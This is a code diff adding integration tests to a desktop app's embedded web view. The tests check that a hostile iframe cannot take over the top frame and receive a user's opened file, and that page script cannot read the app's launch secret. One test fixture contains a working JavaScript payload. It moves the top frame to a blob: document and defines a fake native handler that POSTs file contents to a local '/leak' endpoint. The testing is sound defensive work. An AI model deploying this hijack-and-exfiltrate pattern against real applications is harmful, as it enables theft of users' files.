@@ -2,8 +2,11 @@
 
 #include <filesystem>
 
+#include "app/app_constants.h"
 #include "tests/integration/harness.h"
 #include "tests/integration/local_web_server.h"
+#include "tests/integration/pointer.h"
+#include "tests/support/guard_attacks.h"
 
 namespace pw::testing {
 namespace {
@@ -97,6 +100,74 @@ TEST(Boundary, ThePageKeepsTheBridgeAfterGarbageCollection)
         // And plain garbage, as a long session makes.
         shell.evaluate("for (let i = 0; i < 40; ++i) window.junk = new Array(500000).fill({i});");
     }
+}
+
+}  // namespace
+}  // namespace pw::testing
+
+namespace pw::testing {
+namespace {
+
+// A web frame that, once the user clicks in it, moves the top frame to a document of
+// its own: a blob: of its origin, which reads what the start script gave and offers a
+// window.__nativeOpen that sends what it gets to the frame's server. The next file the
+// user opens (a second launch hands it over like this) must wait for the app's page
+// instead. Before the check in every evaluated script and before evaluating, the file
+// reached the server whole.
+TEST(Boundary, AForeignTopDocumentGetsNoFileAndTheFileWaitsForThePage)
+{
+    ShellHarness shell;
+    LocalWebServer server(R"(<!doctype html><body style="margin:0;height:100vh"><script>
+      const root = location.origin + '/';
+      const foreign = '<title>foreign</title><script>' +
+        'fetch("' + root + 'start?" + typeof window.__nativeRecent + typeof window.__nativeFiles, {mode: "no-cors"});' +
+        'window.__nativeOpen = (n, b) => fetch("' + root + 'leak", {method: "POST", mode: "no-cors", body: n + ":" + b});' +
+        'window.__nativeResult = window.__nativeMsg = (...a) => fetch("' + root + 'reply", {method: "POST", mode: "no-cors", body: a.join()});' +
+        '<' + '/script>';
+      document.addEventListener('click', () => {
+        top.location = URL.createObjectURL(new Blob([foreign], {type: 'text/html'}));
+      });
+    </script>)");
+    shell.web.write("index.html", "<!doctype html><title>home</title><style>body{margin:0}</style><script>"
+                                  "window.got = []; window.__nativeOpen = (n, b) => got.push(n + ':' + atob(b));"
+                                  "</script><iframe src='" + server.url() +
+                                  "' style='border:0;width:100vw;height:100vh'></iframe>");
+    shell.launchAndWait();
+    ASSERT_TRUE(waitUntil([&] { return server.received("/frame.html"); }));
+    spin(0.5);
+    int x = 0, y = 0;
+    Pointer::centreOf(shell.view().widget(), x, y);
+    Pointer().clickAt(x, y);
+    ASSERT_TRUE(waitUntil([&] { return shell.delegate->window()->title() == "foreign"; }, 10));
+    ASSERT_TRUE(shell.view().committedURI().starts_with("blob:http://127.0.0.1"));
+
+    shell.delegate->open({shell.config.write("secret.pdf", "%PDF- secret")});
+    shell.bridge->result("1", true, "/p");
+    spin(1.5);  // three retries of the delivery
+    EXPECT_FALSE(server.received("/leak"));
+    EXPECT_FALSE(server.received("/reply"));
+    EXPECT_TRUE(server.received("/start?undefinedundefined")) << "the start script ran in the foreign document";
+
+    shell.view().load(appURL);
+    EXPECT_TRUE(shell.waitForScript("window.got.length === 1 && window.got[0] === 'secret.pdf:%PDF- secret'"));
+    EXPECT_FALSE(server.received("/leak"));
+}
+
+// Page script of the app's own origin hooks everything the message guard could touch
+// while it posts, then saves through a Proxy: the message is admitted, and nothing page
+// script ran saw the secret. Before the guard took everything at document start, a
+// setter on Object.prototype was handed the secret at every post.
+TEST(Boundary, PageScriptCannotReadTheLaunchSecret)
+{
+    ShellHarness shell;
+    const std::string saved = shell.config.path() + "/saved.pdf";
+    shell.web.write("index.html", std::string("<!doctype html><script>") + guardHooks +
+                                      "window.webkit.messageHandlers.pagewick.postMessage(spied({type: 'savepath', "
+                                      "id: 'k', path: '" + saved + "', b64: 'JVBERg=='}));" + undoGuardHooks +
+                                      "</script>");
+    shell.launchAndWait();
+    EXPECT_TRUE(waitUntil([&] { return std::filesystem::exists(saved); }));
+    EXPECT_EQ(shell.evaluate(secretSeenBy(shell.bridge->messageGuard().secret())), "none");
 }
 
 }  // namespace
